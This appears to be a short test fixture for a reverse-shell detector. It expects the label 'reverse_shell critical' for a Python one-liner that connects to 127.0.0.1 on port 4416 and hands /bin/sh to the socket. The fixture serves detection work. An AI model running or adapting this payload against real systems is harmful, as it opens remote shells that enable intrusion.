# about: the socket is handed to the child only
# expect: reverse_shell critical
# needs: python3
peer 4416
python3 -c 'import socket,subprocess
s=socket.create_connection(("127.0.0.1",4416))
subprocess.call(["/bin/sh"],stdin=s,stdout=s,stderr=s)' || true
done_typing
